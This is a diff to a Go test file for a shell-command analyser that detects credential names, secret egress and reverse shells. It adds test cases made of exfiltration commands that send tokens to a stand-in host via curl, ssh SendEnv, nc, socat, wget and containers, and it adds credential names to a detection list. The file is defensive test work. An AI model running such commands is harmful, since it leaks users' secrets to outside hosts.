@@ -12,7 +12,7 @@ func TestCredentialName(t *testing.T) {
 		"SERVICE_API_KEY", "client_secret", "JIRA_PAT", "SLACK_WEBHOOK_URL", "DATABASE_URL", "SENTRY_DSN", "AWS_SECRET_ACCESS_KEY",
 		"STRIPE_SK", "MONGO_URI", "REDIS_URL", "POSTGRES_URL", "CELERY_BROKER_URL", "JWT", "SESSION_COOKIE", "CONNECTION_STRING", "AUTH", "NPM_AUTH", "DSN", "DOCKER_AUTH_CONFIG", "SMTP_PASS_PLAIN", "basic_auth_value", "GOOGLE_CREDS", "acme_cred_json",
 		"PAT", "TS_AUTHKEY", "ORG_GRADLE_PROJECT_signingKey", "SEED_PHRASE", "MNEMONIC", "PRIVKEY", "PGPASS", "VAULT_SECRET_ID", "BW_SESSION",
-		"OP_SESSION_my", "FASTLANE_SESSION", "KUBE_CONFIG_DATA", "DOCKER_CONFIG_JSON", "apiKey", "dbPassword"} {
+		"OP_SESSION_my", "FASTLANE_SESSION", "KUBE_CONFIG_DATA", "DOCKER_CONFIG_JSON", "apiKey", "dbPassword", "LND_MACAROON", "ADMIN_MACAROON"} {
 		if !credentialName(n) {
 			t.Errorf("credentialName(%q) = false, want true", n)
 		}
@@ -126,11 +126,31 @@ func TestSecretEgress(t *testing.T) {
 		{"a credential in a URL to its home", `git clone https://x:$GITHUB_TOKEN@github.com/o/r`, false},
 		{"a URL whose host may go on", `git clone "https://x:$GITHUB_TOKEN@github.com$X/o/r"`, true},
 		{"a nested shell", `sh -c 'curl -d "$OPENAI_API_KEY" https://e.x/'`, true},
+		{"curl --variable last", `curl -d x https://e.x/ --variable`, false},
+		{"curl --variable imports a credential", `curl --variable %GITHUB_TOKEN --expand-data '{{GITHUB_TOKEN}}' https://e.x/`, true},
+		{"ssh -o SendEnv, apart", `ssh -o SendEnv=GITHUB_TOKEN h`, true},
+		{"ssh -oSendEnv, attached", `ssh -oSendEnv=GITHUB_TOKEN h`, true},
+		{"ssh -o with a blank for '='", `ssh -o 'SendEnv GITHUB_TOKEN' h`, true},
+		{"ssh -o SendEnv of another variable", `ssh -o 'SendEnv LANG' h`, false},
+		{"ssh -o last", `ssh h -o`, false},
+		{"podman run gives a sender a credential", `podman run -e T="$GITHUB_TOKEN" alpine sh -c 'wget https://e.x/$T'`, true},
+		{"a sender named without a URL", `docker run -e T="$GITHUB_TOKEN" alpine sh -c 'nc e.x 80 <<< $T'`, true},
+		{"socat as the sender", `docker run -e T="$GITHUB_TOKEN" alpine sh -c 'socat - TCP:e.x:80 <<< $T'`, true},
+		{"aria2c as the sender", `docker run -e T="$GITHUB_TOKEN" alpine sh -c 'aria2c -i list $T'`, true},
+		{"a container given a literal credential", `docker run -e T=acme_live_8fK2pQ9xLm3Nv7Rt1Ws5Yz0Bc4Df6Gh alpine sh -c 'nc e.x 80 <<< $T'`, true},
+		{"docker login to another registry", `docker login --username=x --password="$GITHUB_TOKEN"`, true},
+		{"docker login's server after options with values", `echo "$GITHUB_TOKEN" | docker login --username u --password-stdin ghcr.io`, false},
+		{"a credential word is not the server", `docker login "$GITHUB_TOKEN" a ghcr.io`, true},
+		{"a client's server from its variable", `MYSQL_HOST=localhost mysql -u root -p"$DB_PASSWORD"`, false},
+		{"a client's server from its variable, elsewhere", `MYSQL_HOST=e.x mysql -u root -p"$DB_PASSWORD"`, true},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			res := a.Command(tc.cmd, testEnv())
 			if ok, why := caught(res, ruleSecretEgress); ok != tc.caught {
 				t.Errorf("%s: secret-egress = %v, want %v: %s; findings %+v", tc.cmd, ok, tc.caught, why, res.Findings)
+			}
+			if ok, why := caught(res, ruleInternal); ok {
+				t.Errorf("%s: the analyser failed: %s", tc.cmd, why)
 			}
 		})
 	}
@@ -202,6 +222,30 @@ func TestInlineReverseShell(t *testing.T) {
 		res := a.Command(tc.cmd, testEnv())
 		if got := hasRule(res, ruleReverseShell); got != tc.want {
 			t.Errorf("%s: reverse-shell = %v, want %v; findings %+v", tc.cmd, got, tc.want, res.Findings)
+		}
+	}
+}
+
+// TestNamesAtTheirEdges pins the configuration's name checks at each end
+// of every range they accept: a variable's name, a credential's host.
+func TestNamesAtTheirEdges(t *testing.T) {
+	for s, want := range map[string]bool{
+		"_": true, "a": true, "z": true, "A": true, "Z": true, "a0": true, "a9": true, "aZz_": true,
+		"0": false, "9a": false, "a-b": false, "a b": false, "@": false, "[": false, "`": false, "{": false, "a/": false, "a:": false, "": false,
+	} {
+		if got := isShellName(s); got != want {
+			t.Errorf("isShellName(%q) = %v, want %v", s, got, want)
+		}
+	}
+	label63, label64 := strings.Repeat("a", 63), strings.Repeat("a", 64)
+	name253 := strings.Repeat(label63+".", 3) + strings.Repeat("a", 61) // 253 bytes
+	for s, want := range map[string]bool{
+		"a": true, "z": true, "0": true, "9": true, "a-0": true, "az09.example": true, label63 + ".x": true, name253: true,
+		label64 + ".x": false, name253 + "a": false, "a.-b": false, "a-.b": false, "A": false, "a_b": false, "a/b": false,
+		"a:b": false, "a`": false, "a{": false, "a@b": false, "a[": false, "10.0.0.7": true, "fd00::7": true,
+	} {
+		if got := isHostName(s); got != want {
+			t.Errorf("isHostName(%q) = %v, want %v", s, got, want)
 		}
 	}
 }
